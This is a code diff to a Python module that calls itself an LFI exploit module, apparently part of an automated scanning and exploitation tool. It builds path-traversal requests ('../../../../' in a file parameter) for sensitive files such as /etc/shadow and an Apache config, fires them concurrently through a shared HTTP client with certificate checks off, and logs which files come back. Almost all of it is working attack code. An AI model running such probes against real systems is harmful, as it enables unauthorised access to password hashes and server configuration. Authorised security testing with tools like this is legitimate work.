@@ -1,26 +1,28 @@
 #!/usr/bin/env python3
 
-import requests
 import logging
 from urllib.parse import urljoin
 
 logger = logging.getLogger(__name__)
 
-def run(target_url, scan_result):
+def run(target_url, scan_result, client=None):
     """
     Run the LFI exploit module
     
     Args:
         target_url (str): Target URL
         scan_result (dict): Results from the scan
+        client (HttpClient, optional): Shared, rate-limited client; a
+            private one is used when omitted
         
     Returns:
         dict: Exploit results
     """
+    own_client = client is None
+    if own_client:
+        from core.http_client import HttpClient
+        client = HttpClient(verify=False, read_timeout=5.0)
     try:
-        # Extract the vulnerable path from scan results
-        vulnerable_path = scan_result['target_url']
-        
         # Try to read additional sensitive files
         sensitive_files = [
             '/etc/shadow',
@@ -29,31 +31,35 @@ def run(target_url, scan_result):
             '/etc/apache2/apache2.conf'
         ]
         
+        # Construct the LFI payloads and probe them all concurrently
+        probes = (
+            {
+                'method': 'GET',
+                'url': urljoin(target_url, f"/?file=../../../../{file_path}"),
+                'file': file_path,
+            }
+            for file_path in sensitive_files
+        )
+        
         results = []
-        for file_path in sensitive_files:
-            # Construct the LFI payload
-            payload = f"../../../../{file_path}"
-            url = urljoin(target_url, f"/?file={payload}")
-            
-            try:
-                response = requests.get(url, timeout=5, verify=False)
-                if response.status_code == 200:
-                    results.append({
-                        'file': file_path,
-                        'status': 'success',
-                        'content_length': len(response.text)
-                    })
-                else:
-                    results.append({
-                        'file': file_path,
-                        'status': 'failed',
-                        'status_code': response.status_code
-                    })
-            except Exception as e:
+        for probe, response, error in client.map(probes):
+            if error is not None:
                 results.append({
-                    'file': file_path,
+                    'file': probe['file'],
                     'status': 'error',
-                    'error': str(e)
+                    'error': str(error)
+                })
+            elif response.status_code == 200:
+                results.append({
+                    'file': probe['file'],
+                    'status': 'success',
+                    'content_length': len(response.text)
+                })
+            else:
+                results.append({
+                    'file': probe['file'],
+                    'status': 'failed',
+                    'status_code': response.status_code
                 })
         
         return {
@@ -66,4 +72,7 @@ def run(target_url, scan_result):
         return {
             'success': False,
             'error': str(e)
-        } 
\ No newline at end of file
+        }
+    finally:
+        if own_client:
+            client.close() 
\ No newline at end of file